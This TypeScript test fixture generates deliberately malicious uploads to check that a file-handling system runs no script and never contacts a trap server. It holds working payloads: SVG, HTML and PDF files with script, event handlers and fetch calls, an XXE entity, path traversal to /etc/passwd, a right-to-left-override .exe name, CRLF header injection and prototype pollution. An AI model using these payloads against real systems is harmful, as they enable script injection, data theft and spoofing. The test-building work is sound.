/** Malicious files: each tries to run a script or to call an address in every way that its type allows. */

export interface HostileFile {
  readonly name: string;
  readonly type: string;
  readonly content: Buffer;
}

const svg = (trapUrl: string) => `<?xml version="1.0"?>
<?xml-stylesheet href="${trapUrl}/style.css" type="text/css"?>
<!DOCTYPE svg [<!ENTITY steal SYSTEM "${trapUrl}/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"
  onload="globalThis.harm=true;fetch('${trapUrl}/onload')">
  <script>globalThis.harm=true;top.harm=true;fetch('${trapUrl}/script')</script>
  <script href="${trapUrl}/remote.js"/>
  <style>@import url("${trapUrl}/import.css"); rect { fill: url("${trapUrl}/fill") }</style>
  <image href="${trapUrl}/image.png" width="9" height="9"/>
  <use xlink:href="${trapUrl}/use.svg#a"/>
  <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${trapUrl}/frame"/></foreignObject>
  <a href="javascript:globalThis.harm=true"><rect width="20" height="20"/></a>
  <text>&steal;</text>
</svg>`;

const html = (trapUrl: string) => `<!doctype html><meta http-equiv="refresh" content="0;url=${trapUrl}/refresh">
<base href="${trapUrl}/"><link rel="prefetch" href="${trapUrl}/prefetch"><img src="x" onerror="globalThis.harm=true">
<script>globalThis.harm=true;top.harm=true;alert('harm');fetch('${trapUrl}/html')</script>
<form action="${trapUrl}/form"><input autofocus onfocus="globalThis.harm=true"></form><iframe src="${trapUrl}/frame"></iframe>`;

const pdf = (trapUrl: string) => `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('harm'\\);app.launchURL\\('${trapUrl}/pdf'\\))>>
/AA<</WC<</S/URI/URI(${trapUrl}/close)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(${trapUrl}/open)>>>>>>endobj
trailer<</Root 1 0 R>>
%%EOF`;

const EVENT = (trapUrl: string) => `fetch('${trapUrl}/name')`;

/** @param trapUrl origin of a server that must get no request */
export function hostileFiles(trapUrl: string): HostileFile[] {
  const page = Buffer.from(html(trapUrl));
  const drawing = Buffer.from(svg(trapUrl));
  return [
    { name: 'drawing.svg', type: 'image/svg+xml', content: drawing },
    { name: 'a-drawing-that-says-png.png', type: 'image/png', content: drawing },
    { name: 'page.html', type: 'text/html', content: page },
    { name: 'a-page-that-says-picture.jpg', type: 'image/jpeg', content: page },
    { name: 'a-page-that-says-text.txt', type: 'text/plain', content: page },
    { name: 'a-page-that-says-film.mp4', type: 'video/mp4', content: page },
    { name: 'page.xhtml', type: 'application/xhtml+xml', content: Buffer.from(svg(trapUrl)) },
    { name: 'script.js', type: 'text/javascript', content: Buffer.from(`globalThis.harm=true;${EVENT(trapUrl)}`) },
    { name: 'paper.pdf', type: 'application/pdf', content: Buffer.from(pdf(trapUrl)) },
    // Names: markup, paths, a reversed extension, control characters, a header's end.
    { name: `"><img src=x onerror="${EVENT(trapUrl)}">.png`, type: 'image/png', content: page },
    { name: '<script>globalThis.harm=true</script>.txt', type: 'text/plain', content: Buffer.from('words') },
    { name: '../../../../etc/passwd.txt', type: 'text/plain', content: Buffer.from('words') },
    { name: 'holiday\u202egpj.exe', type: 'application/octet-stream', content: Buffer.from('MZ') },
    { name: 'in\u200bvoice\u{e0061}.txt', type: 'text/plain', content: Buffer.from('words') },
    { name: 'two\r\nSet-Cookie: harm=1\r\n\r\nlines.txt', type: 'text/plain', content: Buffer.from('words') },
    // Types: invalid or forbidden in a header.
    { name: 'typed.bin', type: `text/html;x="${trapUrl}"`, content: page },
    { name: 'a.__proto__', type: '__proto__', content: Buffer.from('{"__proto__":{"harm":true}}') },
  ];
}
